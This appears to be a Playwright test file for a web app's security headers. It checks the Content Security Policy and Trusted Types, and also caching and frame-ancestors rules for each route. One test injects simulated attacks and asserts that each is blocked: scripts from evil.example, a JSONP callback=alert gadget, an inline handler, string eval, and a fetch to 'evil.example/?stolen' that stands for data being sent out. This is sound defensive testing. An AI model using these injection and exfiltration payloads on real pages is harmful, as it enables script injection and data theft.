// What the host sends with each file, and what the policy stops. What goes into a policy is tested
// in scripts/export/policy.test.mjs.
import { homeAudience } from '@/lib/campaigns';
import { account } from '@/content/words/account';
import { outputAddress } from '@/lib/campaign/output-address';
import { typefaceFile } from '@/lib/campaign/email/styles';
import { emailPolicy } from '@/scripts/export/policy.mjs';
import { signInSite } from './exports';
import {
  expect,
  landingPage,
  postViews,
  studioRoutes,
  templatePage,
  templateRoute,
  test,
  unknownPath,
} from './fixtures';

const [post = '', framedPost = ''] = postViews.map(({ route }) => route);

test('the host sends each kind of file with its headers', async ({ request, page }) => {
  await page.goto(landingPage.route);
  const script = (await page.locator('script[src]').first().getAttribute('src')) ?? '';
  const email = outputAddress(homeAudience, 'email');
  const [noCache, forAYear] = ['no-cache', 'public, max-age=31536000, immutable'];
  for (const [url, frames, caching = noCache, shared = 'same-origin'] of [
    [landingPage.route, 'none'],
    [templateRoute(templatePage.route, homeAudience.id), 'none'],
    ...studioRoutes.map((route) => [route, 'none'] as const),
    [unknownPath, 'none'],
    [post, 'none'],
    [framedPost, 'self'],
    [email, 'self'],
    [`${email}.png`, 'self', noCache, 'cross-origin'],
    [typefaceFile, 'self', noCache, 'cross-origin'],
    ['/favicon.ico', 'none', noCache, 'cross-origin'],
    ['/icons/180.png', 'self', noCache, 'cross-origin'],
    [script, 'self', forAYear],
    ['/_next/static/chunks/gone.js', 'self'],
    ['/.well-known/security.txt', ''],
  ] as const) {
    const headers = (await request.get(url)).headers();
    expect({ url, ...headers }).toMatchObject({
      url,
      'cache-control': caching,
      'x-content-type-options': 'nosniff',
      ...(frames && {
        'content-security-policy': expect.stringMatching(`frame-ancestors '${frames}'$`),
        'cross-origin-opener-policy': 'same-origin-allow-popups',
        'cross-origin-resource-policy': shared,
        'permissions-policy': expect.stringContaining('camera=()'),
        'referrer-policy': 'strict-origin-when-cross-origin',
        'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
      }),
    });
    if (url === email)
      expect(headers['content-security-policy']).toBe(`${emailPolicy}; frame-ancestors 'self'`);
    const robots = url.startsWith('/campaigns/') ? 'noindex' : undefined;
    expect([url, headers['x-robots-tag']]).toEqual([url, robots]);
  }
});

test.describe('where text may become code, code injected into a page', () => {
  // With sign-in, pages can't require Trusted Types, so the rest has to be enough.
  test.use({ baseURL: signInSite, expectedProblems: [/Content Security Policy/] });

  test('does nothing: scripts, handlers, eval, styles, frames, images, requests', async ({
    page,
  }) => {
    await page.goto('/');
    // A set, because some are reported twice.
    const violations = new Set<string>();
    await page.exposeFunction('report', (violation: string) => void violations.add(violation));
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        // oxlint-disable-next-line typescript/no-unsafe-type-assertion
        (window as unknown as { report(text: string): void }).report(
          `${effectiveDirective} ${blockedURI}`,
        ),
      );
      const intruders = [
        ['script', { textContent: 'document.title = "inline"' }],
        ['script', { src: 'https://evil.example/a.js' }],
        ['script', { src: 'https://apis.google.com/complete?callback=alert' }],
        ['style', { textContent: 'body { outline: 9px solid }' }],
        ['link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }],
        ['iframe', { src: 'https://evil.example/' }],
        ['img', { src: 'https://evil.example/a.png' }],
        ['div', { innerHTML: '<button onclick="document.title = \'handler\'"></button>' }],
      ] as const;
      for (const [name, values] of intruders)
        document.body.append(Object.assign(document.createElement(name), values));
      document.querySelector<HTMLButtonElement>('body > div > button')?.click();
      // oxlint-disable-next-line typescript/no-implied-eval -- what an intruder would do
      setTimeout('document.title = "text"');
      fetch('https://evil.example/?stolen').catch(() => {});
    });
    await expect
      .poll(() => [...violations].toSorted())
      .toEqual([
        'connect-src https://evil.example/?stolen',
        'frame-src https://evil.example',
        'img-src https://evil.example/a.png',
        'script-src eval',
        'script-src-attr inline',
        'script-src-elem https://apis.google.com/complete?callback=alert',
        'script-src-elem https://evil.example/a.js',
        'script-src-elem inline',
        'style-src-elem https://evil.example/a.css',
        'style-src-elem inline',
      ]);
    await expect(page).toHaveTitle(new RegExp(homeAudience.landing.title));
    await expect(page.locator('body')).not.toHaveCSS('outline-width', '9px');
  });
});

test.describe('without sign-in', () => {
  test.use({ expectedProblems: [/TrustedHTML|Trusted Type/] });

  test('nothing is fetched for it, and no text becomes code', async ({ page }) => {
    const scripts: Promise<string>[] = [];
    page.on('response', (response) => {
      if (response.request().resourceType() === 'script') scripts.push(response.text());
    });
    await page.goto('/', { waitUntil: 'networkidle' });
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
    await page.waitForLoadState('networkidle');
    const code = (await Promise.all(scripts)).join('\n');
    expect(code.length).toBeGreaterThan(100_000);
    expect(code).not.toContain('@firebase/');
    await expect(page.getByRole('button', { name: account.signIn })).toHaveCount(0);
    const refused = await page.evaluate(
      () =>
        new Promise((resolve) => {
          // In a timer, so that it runs as the page's own code. What the debugger runs isn't
          // restricted.
          setTimeout(() => {
            try {
              document.body.insertAdjacentHTML('beforeend', '<b>text</b>');
              resolve('done');
            } catch (error) {
              resolve(String(error));
            }
          });
        }),
    );
    expect(refused).toContain('TypeError');
  });
});
